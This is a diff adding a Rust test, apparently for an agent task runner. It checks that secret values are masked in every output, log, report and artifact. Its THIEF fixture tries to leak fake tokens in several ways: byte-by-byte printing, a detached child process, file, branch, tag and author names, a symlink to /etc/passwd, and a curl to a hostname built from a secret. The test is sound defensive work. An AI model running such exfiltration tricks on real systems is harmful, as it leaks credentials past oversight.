@@ -320,3 +320,187 @@ fn github_masks_what_is_read_again_whatever_it_shows_just_then() {
         assert!(!shown && !runner.is_stopped(), "{ended}");
     }
 }
+
+/// All that a run leaves for people and programs to read, by name; objects of git are the task's work.
+fn everything_told(scene: &Scene, ended: &Ended) -> Vec<(String, String)> {
+    let mut told = vec![
+        ("standard output".to_owned(), ended.stdout.clone()),
+        ("standard error".to_owned(), ended.stderr.clone()),
+    ];
+    let run = scene
+        .state()
+        .join("runs")
+        .join(scene.runs().pop().expect("a run"));
+    let mut pending = vec![run, scene.path().join("told")];
+    while let Some(path) = pending.pop() {
+        let name = path.display().to_string();
+        if path.is_dir() {
+            // The work itself is what the task made it.
+            let is_work = path.ends_with("artifacts") || path.ends_with("tasks");
+            if !is_work {
+                let entries = std::fs::read_dir(&path).expect("a directory");
+                pending.extend(entries.map(|entry| entry.expect("an entry").path()));
+            }
+        } else if path.is_file() {
+            let bytes = std::fs::read(&path).expect("a file");
+            told.push((name, String::from_utf8_lossy(&bytes).into_owned()));
+        }
+    }
+    for words in [
+        &["show", "thief"][..],
+        &["show", "thief", "--format", "json"],
+        &["logs", "thief"],
+        &["logs", "thief", "--raw"],
+        &["ps", "--all"],
+        &["ps", "--all", "--format", "json"],
+    ] {
+        let output = scene.command(words).current_dir(scene.repo()).output();
+        let ended: Ended = output.expect("agent-run").into();
+        assert_eq!(ended.code, Some(0), "{words:?}: {ended}");
+        told.push((words.join(" "), ended.stdout + &ended.stderr));
+    }
+    told
+}
+
+const TOKEN: &str = "t0ken-0f+great.worth";
+const CHECK: &str = "another-t0ken-0f-worth";
+
+/// Tasks that print a secret and write it into whatever they can name.
+const THIEF: &str = r#"
+version: 1
+secrets:
+  token: { environment: TOKEN }
+  check: { environment: CHECK }
+tasks:
+  thief:
+    secrets: [token]
+    mem_limit: 128m
+    artifacts: [ 'art-*' ]
+    touches: src
+    egress: { allow: [] }
+    verify:
+      run: |
+        cat /run/secrets/check; ls; git log --all
+        curl -s "http://$(cat /run/secrets/check).test/" -o /dev/null
+      secrets: [check]
+    run: |
+      token="$(cat /run/secrets/token)"
+      # Byte by byte, each on its own, on both streams.
+      i=1
+      while [ $i -le ${#token} ]; do
+        printf %s "$token" | cut -c$i | tr -d '\n'
+        sleep 0.02
+        i=$((i + 1))
+      done
+      echo
+      for c in $(printf %s "$token" | sed 's/./& /g'); do printf %s "$c" >&2; sleep 0.02; done
+      echo >&2
+      # By a child that goes on after its parent's death, in a session of its own.
+      sh -c "setsid sh -c 'sleep 0.5; echo child $token; echo done > /tmp/done' &"
+      while [ ! -e /tmp/done ]; do sleep 0.05; done
+      # In names: of files, links, directories, branches, artifacts, and in messages and authors.
+      echo x > "file-$token.txt"
+      mkdir "dir-$token"; echo x > "dir-$token/.envrc"
+      ln -s /etc/passwd "link-$token"
+      echo "$token" > held.txt
+      echo x > "art-$token.txt"; mkfifo "art-pipe-$token"
+      git init -q "nested-$token"
+      git -C "nested-$token" commit -q --allow-empty -m "$token"
+      git add -A 2>/dev/null || true
+      git commit -qm "subject $token"
+      git commit -q --allow-empty -m harmless --author "$token <$token@example.org>"
+      git switch -qc "branch-$token"
+      git commit -q --allow-empty -m "side $token"
+      git tag "tag-$token"
+      git switch -q -
+      echo left > "left-$token"
+      exit ${EXIT:-0}
+  fails:
+    secrets: [token]
+    mem_limit: 64m
+    run: |
+      token="$(cat /run/secrets/token)"
+      echo x > "file-$token.txt"
+      git checkout -q --orphan "orphan-$token"
+      git commit -qm "$token" 2>&1 || true
+      echo "last words: $token" >&2
+      exit 3
+"#;
+
+#[test]
+fn a_secret_is_told_nowhere_whatever_an_agent_writes_it_into() {
+    let scene = Scene::new();
+    std::fs::create_dir(scene.path().join("told")).expect("a directory");
+    let spec = scene.spec(THIEF);
+    let place = |name: &str| scene.path().join("told").join(name).display().to_string();
+    let (events, junit, summary) = (place("events"), place("junit.xml"), place("summary.md"));
+    let spec = spec.to_str().expect("a path");
+    let words = [
+        "run",
+        spec,
+        "--output",
+        "prefixed",
+        "--events",
+        &events,
+        "--junit",
+        &junit,
+        "--summary",
+        &summary,
+    ];
+    let mut command = scene.command(&words);
+    let output = command.env("TOKEN", TOKEN).env("CHECK", CHECK).output();
+    let ended: Ended = output.expect("agent-run").into();
+    assert_eq!(ended.code, Some(100), "{ended}");
+    let result = scene.checked_result(&ended);
+    let report = task(&result, "thief");
+    assert_eq!(report["outcome"]["outcome"], "succeeded", "{report:#}");
+    for (name, text) in everything_told(&scene, &ended) {
+        for value in [TOKEN, CHECK] {
+            if let Some(at) = text.find(value) {
+                let around: String = text[..at].chars().rev().take(200).collect();
+                let around: String = around.chars().rev().collect();
+                panic!("{name} has it behind …{around}");
+            }
+        }
+    }
+
+    assert_that_it_is_told_what_there_is(&scene, report);
+    assert_eq!(result["egress"][0]["hosts"][0]["host"], "***.test");
+    let summary = std::fs::read_to_string(summary).expect("a summary");
+    assert!(summary.contains("Granted secrets: "), "{summary}");
+}
+
+/// Without the values.
+fn assert_that_it_is_told_what_there_is(scene: &Scene, report: &serde_json::Value) {
+    assert_eq!(report["secrets"], serde_json::json!(["check", "token"]));
+    let branch = &report["branch"];
+    let text = branch.to_string();
+    for words in [
+        "file-***.txt\",\"has the value of a secret in its name",
+        "held.txt\",\"holds the value of a secret",
+        "dir-***/.envrc",
+        "link-***\",\"is a symbolic link out of the repository",
+        "branch-***",
+        "in their message or author",
+    ] {
+        assert!(text.contains(words), "no {words} in {branch:#}");
+    }
+    let artifacts = report["artifacts"].to_string();
+    assert!(
+        artifacts.contains("art-***.txt") && artifacts.contains("art-pipe-***"),
+        "{artifacts}"
+    );
+    let shown = scene
+        .command(&["show", "thief"])
+        .current_dir(scene.repo())
+        .output();
+    let shown = Ended::from(shown.expect("agent-run")).stdout;
+    assert!(
+        shown.contains("check, token\n") && shown.contains(" ***\n"),
+        "{shown}"
+    );
+    // And the work is the task's, as it made it.
+    let branch = branch["branch"].as_str().expect("a branch");
+    let names = scene.git(&["ls-tree", "-r", "--name-only", branch]);
+    assert!(names.contains(&format!("file-{TOKEN}.txt")), "{names}");
+}
